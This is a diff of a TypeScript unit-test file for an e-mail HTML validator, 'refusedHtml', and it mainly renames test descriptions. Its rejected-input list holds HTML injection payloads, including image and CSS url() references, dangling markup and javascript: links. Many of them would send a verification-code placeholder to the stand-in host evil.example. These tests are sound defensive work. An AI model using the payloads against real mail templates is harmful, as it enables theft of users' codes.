@@ -2,7 +2,7 @@ import { performance } from 'node:perf_hooks';
 import { refusedHtml } from './html-rules';
 import { layOut } from './mail-layout';
 
-describe('the HTML of a mail', () => {
+describe('refusedHtml', () => {
   it.each([
     'Hello',
     '<p>{code}</p>',
@@ -18,44 +18,44 @@ describe('the HTML of a mail', () => {
     '<table><caption>x</caption><thead><tr><th>a</th></tr></thead><tbody>\n<tr>\n<td><table><tr><td>{code}</td></tr></table></td></tr></tbody></table>',
     '<body><style>p{margin:0}</style><center><div><h2>{app}</h2><hr/><p>a<br>{code}</p></div></center></body>',
     layOut('Your {app} code', 'Hello {username}\n\n{code}', { language: 'en', color: '#2f6fed' }),
-  ])('may be %s', (html) => {
+  ])('accepts %s', (html) => {
     expect(refusedHtml(html)).toBeUndefined();
   });
 
   it.each([
-    ['a value in an address', '<img src="https://evil.example/{code}">'],
-    ['a value in any attribute', '<p title="{code}">x</p>'],
-    ['a value in a tag', '<p {code}>x</p>'],
-    ['a value in a style', '<style>p::after{content:"{code}"}</style>'],
-    ['a value in a style attribute', '<p style="background:{code}">x</p>'],
+    ['a placeholder in a URL', '<img src="https://evil.example/{code}">'],
+    ['a placeholder in an attribute', '<p title="{code}">x</p>'],
+    ['a placeholder in a tag', '<p {code}>x</p>'],
+    ['a placeholder in a style', '<style>p::after{content:"{code}"}</style>'],
+    ['a placeholder in a style attribute', '<p style="background:{code}">x</p>'],
     ['an attribute without quotes', '<img src=https://evil.example/{code}>'],
     ['an attribute in single quotes', "<img src='https://evil.example/{code}'>"],
-    ['quotes that programs read in different ways', '<img a" src="https://evil.example/>{code}">'],
+    ['ambiguous quotes', '<img a" src="https://evil.example/>{code}">'],
     ['a bracket in an attribute', '<img alt=">" src="https://evil.example/{code}">'],
-    ['a tag that never ends', '<img src="https://evil.example/?{code}'],
-    ['a style that never ends', '<style>@import "https://evil.example/{code}";'],
-    ['a style in another', '<style><style>p{}</style>'],
+    ['an unclosed tag', '<img src="https://evil.example/?{code}'],
+    ['an unclosed style', '<style>@import "https://evil.example/{code}";'],
+    ['a nested style', '<style><style>p{}</style>'],
     ['a stray style end', 'p{}</style>'],
     ['a script', '<script>x</script>'],
-    ['a handler', '<img src="https://example.com/x.png" onerror="x">'],
+    ['an event handler', '<img src="https://example.com/x.png" onerror="x">'],
     ['a form', '<form action="https://evil.example"><input name="a"></form>'],
     ['a frame', '<iframe src="https://evil.example"></iframe>'],
     ['a base', '<base href="https://evil.example/">'],
     ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
     ['a drawing', '<svg><a href="https://example.com">x</a></svg>'],
     ['a comment', '<!-- {code} -->'],
-    ['a script as an address', '<a href="javascript:x">x</a>'],
-    ['a script as a hidden address', '<a href="&#106;avascript:x">x</a>'],
-    ['data as an address', '<img src="data:image/svg+xml,x">'],
-    ['an address without encryption', '<img src="http://example.com/x.png">'],
-    ['a style that fetches', '<style>p{background:url(https://evil.example)}</style>'],
-    ['a font by letters', '<style>@font-face{font-family:x;unicode-range:U+30}</style>'],
-    ['a style attribute that fetches', '<p style="background:URL (https://evil.example)">x</p>'],
-    ['a style that hides that it fetches', '<p style="background:\\75rl(https://evil.example)">x</p>'],
-    ['a style that fetches by a character reference', '<p style="background:&#117;rl(https://evil.example)">x</p>'],
-    ['a style that fetches by a named character', '<p style="background:url&lpar;https://evil.example)">x</p>'],
-    ['a picture of sources', '<img srcset="https://evil.example/a 1x">'],
-    ['a bracket on its own', '1 < 2'],
+    ['a script URL', '<a href="javascript:x">x</a>'],
+    ['an escaped script URL', '<a href="&#106;avascript:x">x</a>'],
+    ['a data URL', '<img src="data:image/svg+xml,x">'],
+    ['an unencrypted URL', '<img src="http://example.com/x.png">'],
+    ['a style with a URL', '<style>p{background:url(https://evil.example)}</style>'],
+    ['a font face', '<style>@font-face{font-family:x;unicode-range:U+30}</style>'],
+    ['a style attribute with a URL', '<p style="background:URL (https://evil.example)">x</p>'],
+    ['a style with an escaped URL', '<p style="background:\\75rl(https://evil.example)">x</p>'],
+    ['a style with a URL in numeric references', '<p style="background:&#117;rl(https://evil.example)">x</p>'],
+    ['a style with a URL in named references', '<p style="background:url&lpar;https://evil.example)">x</p>'],
+    ['an image with srcset', '<img srcset="https://evil.example/a 1x">'],
+    ['a stray bracket', '1 < 2'],
     ['a cell outside a table', '<p>https://evil.example/?c=<td>{code}</p>'],
     ['a closed cell outside a table', '<p>https://evil.example/?c=<td></td>{code}</p>'],
     ['a row outside a table', 'https://evil.example/?c=<tr></tr>{code}'],
@@ -63,13 +63,13 @@ describe('the HTML of a mail', () => {
     ['text in a table outside its cells', 'https://evil.example/?c=<table><tr>{code}</tr></table>'],
     ['a no-break space in a table outside its cells', '<table>&nbsp;<tr><td>{code}</td></tr></table>'],
     ['an element in a table outside its cells', '<table><p>{code}</p></table>'],
-    ['a table right in a table', '<table><table></table></table>'],
-    ['a stray end', '<p>https://evil.example/?c=</h1>{code}</p>'],
-    ['the end of a line break', '<p>a</br>{code}</p>'],
-    ['an end too many', '<p>{code}</p></p>'],
-    ['ends in another order', '<p><b>{code}</p></b>'],
-    ['an element that never ends', '<div><p>{code}</p>'],
-    ['an element that ends itself', '<div/>{code}'],
+    ['a table directly in a table', '<table><table></table></table>'],
+    ['a stray end tag', '<p>https://evil.example/?c=</h1>{code}</p>'],
+    ['an end tag of a line break', '<p>a</br>{code}</p>'],
+    ['a duplicate end tag', '<p>{code}</p></p>'],
+    ['end tags in the wrong order', '<p><b>{code}</p></b>'],
+    ['an unclosed element', '<div><p>{code}</p>'],
+    ['a self-closing element', '<div/>{code}'],
     ['a page within a page', '<p>https://evil.example/?c=<html></html>{code}</p>'],
     ['a page after text', 'https://evil.example/?c=<html><body>{code}</body></html>'],
     ['a head after text', 'https://evil.example/?c=<head></head>{code}'],
@@ -84,14 +84,11 @@ describe('the HTML of a mail', () => {
     ['an item outside a list', '<ul><li><div><li>a</li>https://evil.example/?c=</div>{code}</li></ul>'],
     ['a heading in a heading', '<h1><h2>a</h2>https://evil.example/?c=</h1>{code}'],
     ['a link in a link', '<a href="#a"><a href="#b">{code}</a></a>'],
-    [
-      'more depth than a browser follows',
-      `${'<div>'.repeat(600)}https://evil.example/?c=${'</div>'.repeat(600)}{code}`,
-    ],
-    ['a tag with white space that is none of HTML', '<p>https://evil.example/?c=<div\u00a0a>x</div></p>{code}'],
-    ['a style begun in an attribute', '<p title="<style>">https://evil.example/?c=</style>">{code}</p>'],
-    ['a handler of a style', '<style onload="x">p{margin:0}</style>'],
-  ])('may not be %s', (_, html) => {
+    ['too many nested elements', `${'<div>'.repeat(600)}https://evil.example/?c=${'</div>'.repeat(600)}{code}`],
+    ['a tag with a no-break space', '<p>https://evil.example/?c=<div\u00a0a>x</div></p>{code}'],
+    ['a style that starts in an attribute', '<p title="<style>">https://evil.example/?c=</style>">{code}</p>'],
+    ['an event handler of a style', '<style onload="x">p{margin:0}</style>'],
+  ])('rejects %s', (_, html) => {
     expect(refusedHtml(html)).toEqual(expect.any(String));
   });
 
@@ -101,7 +98,7 @@ describe('the HTML of a mail', () => {
     '<p a="'.repeat(6_000),
     '<style>'.repeat(5_000),
     '<p a' + ' ='.repeat(20_000),
-  ])('is judged in no time: %#', (html) => {
+  ])('checks long input in linear time: %#', (html) => {
     const start = performance.now();
     expect(refusedHtml(html)).toBeDefined();
     expect(performance.now() - start).toBeLessThan(5_000);
